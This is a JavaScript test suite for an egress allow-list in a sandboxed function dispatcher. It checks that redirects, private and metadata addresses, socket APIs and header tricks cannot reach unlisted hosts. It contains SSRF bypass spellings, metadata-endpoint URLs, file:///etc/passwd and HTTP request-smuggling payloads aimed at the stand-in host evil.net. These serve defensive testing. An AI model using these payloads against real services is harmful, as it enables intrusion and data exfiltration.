// What an egress policy lets out, host by host, with the real workerd and an Internet that writes down all that it gets.
import assert from "node:assert/strict";
import { after, before, beforeEach, describe, test } from "node:test";
import { bundle, Dispatcher } from "./support/dispatcher.mjs";
import { Internet } from "./support/internet.mjs";

const HOSTS = ["api.example.com", "*.example.org", "ports.example.com:8443", "*.example.net:8443"];
HOSTS.push("xn--mnchen-3ya.example", "203.0.114.7", "api.example.com:444");
const LIST = { policy: "AllowList", hosts: HOSTS };
const ALL = { policy: "AllowAll", hosts: [] };
const DENY = { policy: "Deny", hosts: [] };

/** How URLs are read depends on a function's own date: before 2022-10-31 another parser does it. */
const READERS = {
  today: {},
  "with the parser of 2021": { compatibilityDate: "2021-01-01" },
  "with custom ports ignored": { compatibilityFlags: ["ignore_custom_ports"] },
  "with its own fetch strictly public": { compatibilityFlags: ["global_fetch_strictly_public"] },
};

const FETCH = `export default async ({ url, init }) => {
  const response = await fetch(url, init);
  return { status: response.status, text: await response.text() };
}`;

/** @type {Internet} */
let internet;
/** @type {Dispatcher} */
let dispatcher;
before(async () => {
  internet = await Internet.start();
  dispatcher = await Dispatcher.start({ internet: internet.port });
});
after(async () => {
  await dispatcher?.stop();
  internet?.close();
});
beforeEach(() => internet.forget());

const call = async (egress, args, more) =>
  (await dispatcher.invoke(bundle(FETCH, { egress, ...more }), args)).json;

describe("AllowList", () => {
  const granted = {
    "the host": "https://api.example.com/x?y=1",
    "its scheme's port": "https://api.example.com:443/",
    "http at 80": "http://api.example.com:80/",
    "a port of the list": "https://ports.example.com:8443/",
    "a port of the list, by http": "http://ports.example.com:8443/",
    "a host that is listed with and without a port": "https://api.example.com:444/",
    "a name below": "https://a.example.org/",
    "a name far below": "https://a.b.c.example.org/",
    "a name below, at the listed port": "https://a.example.net:8443/",
    "another case": "HTTPS://API.EXAMPLE.COM/",
    "a dot at the end": "https://api.example.com./",
    Punycode: "https://xn--mnchen-3ya.example/",
    "an address that is listed": "https://203.0.114.7/",
    "a name and a password": "https://user:password@api.example.com/",
  };
  for (const [what, url] of Object.entries(granted)) {
    test(`grants ${what}`, async () => {
      const json = await call(LIST, { url });
      assert.equal(json.result?.status, 200, JSON.stringify(json));
      const sent = new URL(url);
      assert.deepEqual(internet.hosts, [sent.host]);
    });
  }

  const spelled = {
    "https://münchen.example/": "xn--mnchen-3ya.example",
    "https://MÜNCHEN.example/": "xn--mnchen-3ya.example",
    "https://ａｐｉ．example．com/": "api.example.com",
    "https://api。example。com/": "api.example.com",
    "https://203.0.29191/": "203.0.114.7",
    "https://0xcb007207/": "203.0.114.7",
    "https://3405804039/": "203.0.114.7",
    "https://0313.0.0162.07/": "203.0.114.7",
  };
  for (const [url, host] of Object.entries(spelled)) {
    test(`reads ${url} as ${host}`, async () => {
      const json = await call(LIST, { url });
      assert.equal(json.result?.status, 200, JSON.stringify(json));
      assert.deepEqual(internet.hosts, [host]);
    });
  }

  const refused = {
    "another host": "https://evil.net/",
    "a name below a host": "https://x.api.example.com/",
    "the name that a suffix is of": "https://example.org/",
    "a name that ends alike": "https://evilexample.org/",
    "a name that begins alike": "https://api.example.com.evil.net/",
    "another port": "https://api.example.com:8443/",
    "https at http's port": "https://api.example.com:80/",
    "http at https' port": "http://api.example.com:443/",
    "a listed port's host at its scheme's port": "https://ports.example.com/",
    "a listed port's suffix at its scheme's port": "https://a.example.net/",
    "an address that is not listed": "https://203.0.114.8/",
    "userinfo that looks like the host": "https://api.example.com@evil.net/",
    "userinfo with a port": "https://api.example.com:443@evil.net/",
    "userinfo with a password": "https://user:api.example.com@evil.net/",
    "a fragment that looks like userinfo": "https://evil.net#@api.example.com/",
    "a query that looks like a suffix": "https://evil.net?.example.org",
    "a path that looks like a host": "https://evil.net/..//api.example.com/",
    "a dot as %2e": "https://api.example.com%2eevil.net/",
    "no slashes": "https:evil.net",
    "three slashes": "https:///evil.net/",
    "a tab in the name": "https://evil.net\t.api.example.com/",
    "two dots at the end": "https://api.example.com../",
    "a Cyrillic letter": "https://аpi.example.com/",
    "no diaeresis": "https://munchen.example/",
    "another scheme": "ftp://api.example.com/",
    loopback: "http://127.0.0.1/",
  };
  for (const [what, url] of Object.entries(refused)) {
    test(`refuses ${what}`, async () => {
      for (const [reader, more] of Object.entries(READERS)) {
        // Without custom ports, what a function asks at another port goes to the scheme's own before anybody sees it.
        if (reader.includes("ports ignored") && new URL(url).port !== "") continue;
        const json = await call(LIST, { url }, more);
        assert.equal(json.kind, "thrown", `${reader}: ${JSON.stringify(json)}`);
        assert.deepEqual(internet.requests, [], reader);
      }
    });
  }

  test("whatever a URL is made of, by whichever parser, what gets out is on the list", async () => {
    const source = `export default async ({ urls }) => {
      let through = 0;
      for (const url of urls) try { await (await fetch(url)).text(); through++ } catch {}
      return through;
    }`;
    const parts = [
      "api.example.com",
      "evil.net",
      "a.example.org",
      "@",
      "\\",
      "/",
      "#",
      "?",
      ":",
      ":8443",
      "%40",
    ];
    parts.push(
      "%2f",
      "%5c",
      "%23",
      ".",
      "..",
      "//",
      "\t",
      "\n",
      "[",
      "]",
      ";",
      "&",
      "。",
      "\u00ad",
      "\u200b",
      "%00",
      "\uff0f",
    );
    const random = mulberry32(20261125);
    const urls = Array.from({ length: 1200 }, () => {
      let rest = "";
      for (let i = 0; i < 2 + random() * 4; i++) rest += parts[Math.floor(random() * parts.length)];
      return `${random() < 0.5 ? "http" : "https"}:${["//", "//", "//", "/", "\\\\", ""][Math.floor(random() * 6)]}${rest}`;
    });
    for (const [reader, more] of Object.entries(READERS)) {
      internet.forget();
      const { json } = await dispatcher.invoke(
        bundle(source, { egress: LIST, ...more }),
        { urls },
        { timeoutMs: 30_000 },
      );
      assert.ok(json.result >= 5, `${reader}: ${JSON.stringify(json)}`);
      assert.equal(internet.requests.length, json.result, reader);
      for (const { url, headers } of internet.requests) {
        const { hostname, port } = new URL(url);
        const host = hostname.replace(/\.$/, "");
        assert.ok(
          port === "" && (host === "api.example.com" || host.endsWith(".example.org")),
          `${reader}: ${url}`,
        );
        assert.equal(headers.host, undefined, `${reader}: ${url}`);
      }
    }
  });
});

describe("redirects", () => {
  const to = (url, status = 302, from = "https://api.example.com") =>
    `${from}/?status=${status}&to=${encodeURIComponent(url)}`;

  test("are followed inside of the list, over several hops, with their method and body", async () => {
    const url = to(to("https://a.example.org/landed", 307, "https://ports.example.com:8443"), 307);
    const json = await call(LIST, { url, init: { method: "POST", body: "kept" } });
    assert.equal(json.result?.text, "POST https://a.example.org/landed", JSON.stringify(json));
    assert.deepEqual(internet.hosts, ["api.example.com", "ports.example.com:8443", "a.example.org"]);
    assert.ok(internet.requests.every(({ body }) => body === "kept"));
  });

  const escapes = {
    "another host": "https://evil.net/",
    "another port": "https://api.example.com:8443/",
    "no scheme": "//evil.net/",
    "a backslash": "/\\evil.net/",
    userinfo: "https://api.example.com@evil.net/",
    loopback: "http://127.0.0.1/",
    "the metadata address": "http://169.254.169.254/latest/meta-data/",
    "the metadata address, in decimal": "http://2852039166/",
    "an IPv4 address in an IPv6 one": "http://[::ffff:169.254.169.254]/",
    "another scheme": "ftp://api.example.com/",
    "a file": "file:///etc/passwd",
    data: "data:text/plain,evil",
  };
  for (const [what, target] of Object.entries(escapes)) {
    test(`don't lead out by ${what}`, async () => {
      for (const status of [301, 302, 303, 307, 308]) {
        const direct = await call(LIST, { url: to(target, status) });
        assert.equal(direct.kind, "thrown", `${status}: ${JSON.stringify(direct)}`);
        const later = await call(LIST, { url: to(to(target, status, "https://a.example.org"), status) });
        assert.equal(later.kind, "thrown", `${status}: ${JSON.stringify(later)}`);
      }
      assert.deepEqual(internet.hosts, ["api.example.com", "a.example.org"]);
    });
  }

  test("without end come to one", async () => {
    const json = await call(LIST, { url: "https://api.example.com/loop" });
    assert.match(json.error?.message ?? "", /Too many redirects/, JSON.stringify(json));
    assert.ok(internet.requests.length < 60);
  });

  test("that a function follows by hand are checked too", async () => {
    const source = `export default async ({ url }) => {
      const first = await fetch(url, { redirect: "manual" });
      return (await fetch(first.headers.get("location"))).status;
    }`;
    const { json } = await dispatcher.invoke(bundle(source, { egress: LIST }), {
      url: to("https://evil.net/"),
    });
    assert.match(json.error.message, /^fetch to "evil.net" refused/);
    assert.deepEqual(internet.hosts, ["api.example.com"]);
  });
});

describe("addresses", () => {
  const CLOSED = `localhost LOCALHOST localhost. a.localhost db redis.svc x.svc.cluster.local metadata.google.internal printer.local
    router.lan code-store dispatcher 127.0.0.1 127.0.0.1. 127.1 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 0 0.0.0.0 0x0
    10.1.2.3 012.1.2.3 172.16.0.1 172.31.255.255 192.168.1.1 3232235777 169.254.169.254 0xa9fea9fe 2852039166 0251.0376.0251.0376
    100.100.100.200 168.63.129.16 192.0.0.192 198.18.0.1 224.0.0.1 255.255.255.255 １２７．０．０．１ ⓛⓞⓒⓐⓛⓗⓞⓢⓣ 127。0。0。1 [::] [::1]
    [0:0:0:0:0:0:0:1] [fe80::1] [fc00::1] [fd00:ec2::254] [ff02::1] [::ffff:127.0.0.1] [::ffff:7f00:1] [::ffff:169.254.169.254]
    [::127.0.0.1] [64:ff9b::127.0.0.1] [64:ff9b::a9fe:a9fe] [64:ff9b:1::7f00:1] [2002:7f00:1::] [2001:0:1::1] [2001:db8::1] [100::1]
    localhost.. 10.0.0.1.. a..localhost 127.0.0.1... evil.net.. evil..net .evil.net .localhost`;

  test("that are not public are closed under AllowAll, in every spelling", async () => {
    const source = `export default async ({ hosts }) => {
      const through = [];
      for (const host of hosts) for (const url of ["http://" + host + "/", "https://" + host + ":8443/"])
        try { await fetch(url); through.push(url) } catch (e) { if (!/closed to functions|Invalid URL|cannot load/.test(e.message)) through.push(url + " " + e.message) }
      return through;
    }`;
    const hosts = CLOSED.split(/\s+/);
    for (const [reader, more] of Object.entries(READERS)) {
      const value = bundle(source, { egress: ALL, ...more });
      const { json } = await dispatcher.invoke(value, { hosts }, { timeoutMs: 30_000 });
      assert.deepEqual(json.result, [], `${reader}: ${JSON.stringify(json)}`);
    }
    assert.deepEqual(internet.requests, []);
  });

  test("that are not public are closed though they are listed", async () => {
    const hosts = ["localhost", "127.0.0.1", "169.254.169.254", "[::1]", "*.svc.cluster.local", "db"];
    for (const host of [...hosts.slice(0, 4), "x.svc.cluster.local", "db"]) {
      const json = await call({ policy: "AllowList", hosts }, { url: `http://${host}/` });
      assert.match(json.error?.message ?? "granted", /closed to functions/, host);
    }
    assert.deepEqual(internet.requests, []);
  });

  test("that are public are reached by AllowAll, at every port", async () => {
    for (const url of [
      "https://evil.net/",
      "http://evil.net:8080/",
      "https://8.8.8.8/",
      "https://[2606:4700::1111]/",
    ]) {
      assert.equal((await call(ALL, { url })).result?.status, 200, url);
    }
    assert.deepEqual(internet.hosts, ["evil.net", "evil.net:8080", "8.8.8.8", "[2606:4700::1111]"]);
  });
});

/** All that a function could open a connection with. None takes another way than fetch does. */
const DOORS = {
  "fetch of the prototype": `await Object.getPrototypeOf(globalThis).fetch.call(globalThis, "https://evil.net/")`,
  "a Request": `await fetch(new Request("https://evil.net/", { method: "POST", body: "x" }))`,
  sendBeacon: `navigator.sendBeacon("https://evil.net/", "x"); await new Promise((r) => setTimeout(r, 50))`,
  waitUntil: `(await import("cloudflare:workers")).waitUntil(fetch("https://evil.net/")); await new Promise((r) => setTimeout(r, 50))`,
  EventSource: `await new Promise((r, j) => { const s = new EventSource("https://evil.net/"); s.onopen = r; s.onerror = (e) => { s.close(); j(e.error) } })`,
  WebSocket: `await new Promise((r, j) => { const s = new WebSocket("wss://evil.net/"); s.onopen = r; s.onerror = (e) => j(new Error(e.message)) })`,
  "an upgrade by fetch": `await fetch("https://evil.net/", { headers: { upgrade: "websocket" } })`,
  "node:http": `const { get } = await import("node:http"); await new Promise((r, j) => get("http://evil.net/", r).on("error", j))`,
  "node:https": `const { get } = await import("node:https"); await new Promise((r, j) => get("https://evil.net/", r).on("error", j))`,
  "node:net": `const { connect } = await import("node:net"); await new Promise((r, j) => connect(80, "evil.net").on("connect", r).on("error", j))`,
  "node:tls": `const { connect } = await import("node:tls"); await new Promise((r, j) => connect(443, "evil.net").on("secureConnect", r).on("error", j))`,
  "node:dns": `await (await import("node:dns/promises")).resolve4("evil.net")`,
  "node:http2": `const { connect } = await import("node:http2"); await new Promise((r, j) => connect("https://evil.net").on("connect", r).on("error", j))`,
  connect: `await (await import("cloudflare:sockets")).connect({ hostname: "evil.net", port: 443 }).opened`,
  "connect with TLS": `await (await import("cloudflare:sockets")).connect("evil.net:443", { secureTransport: "on" }).opened`,
  "connect with STARTTLS": `const s = (await import("cloudflare:sockets")).connect("evil.net:443", { secureTransport: "starttls" }); await s.startTls().opened`,
  "its own entrypoint": `const { exports } = await import("cloudflare:workers"); await exports.default.fetch("https://evil.net/", { method: "POST", body: "{}" })`,
};
const door = (code, egress) =>
  dispatcher.invoke(
    bundle(`export default async () => { ${code} }`, { egress, compatibilityFlags: ["nodejs_compat"] }),
    {},
  );

describe("ways out", () => {
  for (const [what, code] of Object.entries(DOORS)) {
    test(`${what}: closed by Deny and beside an AllowList`, async () => {
      for (const egress of [DENY, LIST]) {
        const { status, text } = await door(code, egress);
        assert.equal(status, 200, text);
        assert.deepEqual(internet.requests, [], `${egress.policy}: ${text}`);
      }
    });
  }

  test("connect() is refused to every host under every policy", async () => {
    for (const egress of [DENY, LIST, ALL]) {
      for (const what of ["connect", "connect with TLS", "connect with STARTTLS", "node:net", "node:tls"]) {
        for (const host of ["evil.net", "api.example.com", "127.0.0.1"]) {
          const { json } = await door(DOORS[what].replaceAll("evil.net", host), egress);
          assert.equal(json.kind, "thrown", `${egress.policy} ${what} ${host}: ${JSON.stringify(json)}`);
        }
      }
    }
    assert.deepEqual(internet.requests, []);
  });

  test("WebSockets are refused to every host under every policy", async () => {
    for (const egress of [DENY, LIST, ALL]) {
      for (const what of ["WebSocket", "an upgrade by fetch"]) {
        for (const host of ["evil.net", "api.example.com"]) {
          const { json } = await door(DOORS[what].replaceAll("evil.net", host), egress);
          assert.equal(json.kind, "thrown", `${egress.policy} ${what} ${host}: ${JSON.stringify(json)}`);
        }
      }
    }
    const { json } = await door(DOORS.WebSocket.replaceAll("evil.net", "api.example.com"), LIST);
    assert.match(
      json.error.message,
      /upgrade to "api.example.com" refused: WebSockets are closed to functions/,
    );
    assert.deepEqual(internet.requests, []);
  });
});

describe("what a function sends along", () => {
  test("no Host but the URL's, and no cf", async () => {
    const init = {
      headers: { Host: "evil.net", hoST: "evil.net", "x-kept": "yes" },
      cf: { resolveOverride: "evil.net", cacheKey: "other", cacheEverything: true, cacheTtl: 86_400 },
    };
    await call(LIST, { url: "https://api.example.com/", init });
    const source = `export default async ({ url, init }) => (await fetch(new Request(new Request(url, init), init))).status`;
    await dispatcher.invoke(bundle(source, { egress: LIST }), { url: "https://api.example.com/", init });
    assert.equal(internet.requests.length, 2);
    for (const { url, headers } of internet.requests) {
      assert.equal(url, "https://api.example.com/");
      assert.equal(headers.host, undefined);
      assert.equal(headers["x-kept"], "yes");
      assert.ok(!JSON.stringify(headers).includes("evil"), JSON.stringify(headers));
      assert.ok(!JSON.stringify(headers).includes("cache"), JSON.stringify(headers));
    }
  });

  test("method, headers and body as they were, however the URL is spelled", async () => {
    const init = {
      method: "PUT",
      headers: { "x-kept": "yes", "content-type": "a/b" },
      body: "ä".repeat(100_000),
    };
    const spellings = [
      "http://api.example.com:80/a%41?b=c",
      "http://API.example.com/a%41?b=c",
      "http://u:p@api.example.com/a%41?b=c",
    ];
    for (const url of [...spellings, "http://api.example.com\\a%41?b=c"]) {
      for (const [reader, more] of Object.entries(READERS)) {
        if (url.includes("\\") && reader.includes("2021")) continue; // not a path to that parser
        internet.forget();
        const json = await call(LIST, { url, init }, more);
        assert.equal(json.result?.status, 200, `${reader} ${url}: ${JSON.stringify(json)}`);
        const [{ method, url: sent, headers, body }] = internet.requests;
        assert.deepEqual(
          [method, headers["x-kept"], headers["content-type"], body],
          ["PUT", "yes", "a/b", init.body],
        );
        assert.equal(sent, "http://api.example.com/a%41?b=c", `${reader} ${url}`);
      }
    }
  });

  test("no second request in the first one's headers or body", async () => {
    const smuggled = "GET /smuggled HTTP/1.1\r\nHost: evil.net\r\n\r\n";
    const inits = [
      { method: "POST", body: smuggled, headers: { "content-length": "0" } },
      { method: "POST", body: smuggled, headers: { "transfer-encoding": "chunked" } },
      {
        method: "POST",
        body: `0\r\n\r\n${smuggled}`,
        headers: { "transfer-encoding": "chunked", "content-length": "3" },
      },
      { headers: { connection: "keep-alive, x-kept", "transfer-encoding": "x" } },
    ];
    for (const init of inits) {
      await call(LIST, { url: "https://api.example.com/first", init });
    }
    assert.deepEqual(
      internet.requests.map(({ url, body }) => [url, body]),
      inits.map(({ body }) => ["https://api.example.com/first", body ?? ""]),
    );
    for (const init of [
      { headers: { "x-a": `1\r\n\r\n${smuggled}` } },
      { method: "GET / HTTP/1.1\r\nHost: evil.net\r\n\r\nGET" },
      { method: "CONNECT" },
    ]) {
      assert.equal((await call(LIST, { url: "https://api.example.com/", init })).kind, "thrown");
    }
    assert.equal(internet.requests.length, inits.length);
  });

  test("nothing of the dispatcher's: no token, no name of the caller", async () => {
    await call(ALL, { url: "https://evil.net/" });
    const [{ headers }] = internet.requests;
    assert.deepEqual(
      Object.keys(headers).filter((name) => !/^(?:host|cf-blob|accept-encoding)$/.test(name)),
      [],
    );
  });
});

/** A small, seeded generator of numbers, so that a failure can be had again. */
function mulberry32(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}
